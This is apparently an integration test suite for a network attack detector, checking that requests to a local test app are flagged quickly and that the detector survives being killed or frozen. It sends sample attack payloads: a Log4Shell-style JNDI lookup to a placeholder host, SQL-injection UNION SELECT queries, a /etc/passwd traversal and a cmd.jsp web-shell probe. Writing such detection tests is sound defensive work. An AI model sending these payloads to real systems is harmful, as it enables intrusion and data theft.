import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import type { NetworkEvent } from '#contract/guard.ts'
import { INSTANCE_PORT } from '#contract/installation.ts'
import { LABELS } from '#runtime/drivers/docker.ts'
import { run } from '#runtime/drivers/process.ts'
import { makeTestAgent, type TestAgent } from './test-agent.ts'
import { get, until } from './test-host.ts'

const SHOP = 'shop.test.localhost'
const BIG = 3_000_000
/** Answers everything, what is asked for as a big page with megabytes. */
const PROGRAM = `require('http').createServer((q,r)=>q.on('end',()=>r.end(q.url==='/big'?Buffer.alloc(${BIG},97):'hello')).resume()).listen(${INSTANCE_PORT});process.on('SIGTERM',()=>process.exit(0))`

let agent: TestAgent
let seen = 0

before(async () => {
  agent = await makeTestAgent(189)
  await agent.put(['shop', [agent.instance('web', 1, 1, PROGRAM, { traffic: 'serve' })]])
  await until('the app answers', async () => {
    // Until its certificate is there, the edge shows another.
    const answer = await get(agent.host, SHOP).catch(() => undefined)
    return answer?.status === 200
  })
  await until('the detector counts', async () => {
    const { detector: said } = await agent.client.report(0, 0)
    return (said?.packets ?? 0) > 0
  })
})
after(() => agent?.destroy())

const detector = async () => {
  const { detector: said } = await agent.client.report(0, 0)
  assert.ok(said, 'a full host has a detector')
  return said
}
async function pid(): Promise<number> {
  const [container] = await agent.containers({ [LABELS.component]: 'detector' })
  const detail = await agent.host.docker.containers.inspect(container?.id ?? '')
  assert.ok(detail && detail.pid > 0)
  return detail.pid
}

/** What was found since it was asked last; waits until there is something. */
async function news(waitMs: number): Promise<NetworkEvent[]> {
  const end = performance.now() + waitMs
  for (;;) {
    const left = end - performance.now()
    const report = await agent.client.guard(seen, Math.max(0, Math.round(left)), new AbortController().signal)
    seen = report.sequence
    const found = report.events.filter(({ finding_info }) => finding_info !== undefined)
    if (found.length > 0 || left <= 0) return found
  }
}

/** Attacks, and waits until that is told of. A detector that has just started may not be looking yet. */
async function attack(path: string): Promise<NetworkEvent> {
  return await until('the attack is told of', async () => {
    await get(agent.host, SHOP, path)
    return (await news(1_000))[0]
  })
}

test('an attack on an app is told of within a second, with who, whom and what it means', async (t) => {
  await attack(`/?q=${['$', '{jndi:ldap://192.0.2.66/first}'].join('')}`)
  const took: number[] = []
  for (const column of ['a', 'b', 'c']) {
    // Finds of one rule are one event for a minute, which is told of again as it grows.
    seen = (await agent.client.guard(0, 0, new AbortController().signal)).sequence
    const began = performance.now()
    await get(agent.host, SHOP, `/items?id=1'%20UNION%20SELECT%20${column}%20FROM%20users--`)
    const [event] = await news(5_000)
    took.push(Math.round(performance.now() - began))
    assert.ok(event)
    assert.deepEqual(
      [event.kind, event.src_endpoint.ip, event.target_app, event.app, event.disposition],
      ['web attack', '127.0.0.1', 'shop', null, 'Logged'],
    )
    assert.match(
      event.message,
      /^127\.0\.0\.1 sent a request with injected SQL .*, to the app shop: GET shop\./,
    )
  }
  t.diagnostic(`told of ${took.join(', ')} ms after the requests were begun`)
  // On a machine that does much else one of them may wait for its turn.
  assert.ok(Math.min(...took) < 1_000, `${took.join(', ')} ms`)
})

test('ordinary requests are not told of', async () => {
  for (const path of ['/', '/style.css', '/search?q=student%20union%20select%20committee', '/big'])
    assert.equal((await get(agent.host, SHOP, path)).status, 200)
  assert.deepEqual(await news(2_000), [])
})

test('connections that the edge keeps open are read to their end, however much went through them', async () => {
  for (let times = 0; times < 3; times++) await get(agent.host, SHOP, '/big')
  assert.equal((await attack('/page?file=/etc/passwd')).finding_info?.uid, '7000011')
})

test('what is hidden behind 100 kB of a request’s body is found', async () => {
  const { ports } = agent.host.installation
  const body = `${'x'.repeat(100_000)}${['$', '{jndi:ldap://192.0.2.66/deep}'].join('')}`
  const url = `https://${SHOP}:${ports.https}/form`
  const event = await until('it is told of', async () => {
    await run(
      [
        'curl',
        '-sk',
        '-m',
        '10',
        '--resolve',
        `${SHOP}:${ports.https}:127.0.0.1`,
        '--data-binary',
        '@-',
        url,
      ],
      {
        input: body,
      },
    )
    return (await news(1_000)).find(({ message }) => message.includes('/form'))
  })
  assert.equal(event.finding_info?.uid, '7000032')
})

test('a detector that is killed is there again, and finds attacks again', async (t) => {
  const began = performance.now()
  process.kill(await pid(), 'SIGKILL')
  assert.equal((await attack('/cmd.jsp?c=ls')).finding_info?.uid, '7000040')
  t.diagnostic(`found the next attack ${Math.round(performance.now() - began)} ms after it was killed`)
})

test('one that is frozen is an alarm; what it missed meanwhile is one, too, after it goes on', async () => {
  const frozen = await pid()
  process.kill(frozen, 'SIGSTOP')
  try {
    // More than the memory in which packets wait for it.
    for (let times = 0; times < 30; times++) await get(agent.host, SHOP, '/big')
    await until('silence is told of', async () => /said nothing since/.test((await detector()).problem))
    const { components } = await agent.client.report(0, 0)
    assert.equal(components.find(({ component }) => component === 'detector')?.state, 'degraded')
  } finally {
    process.kill(frozen, 'SIGCONT')
  }
  await until('missed packets are told of', async () =>
    /missed \d+ of \d+ packets/.test((await detector()).problem),
  )
  assert.ok((await detector()).dropped > 0)
})

test('it needs less than 200 MB', async (t) => {
  const { stdout } = await run(['ps', '-o', 'rss=,time=,etime=', '-p', String(await pid())])
  t.diagnostic(`kB of memory, processor time, age: ${stdout.trim()}`)
  const [rssKb = 0] = stdout.trim().split(/\s+/).map(Number)
  assert.ok(rssKb > 0 && rssKb < 200_000, stdout)
})
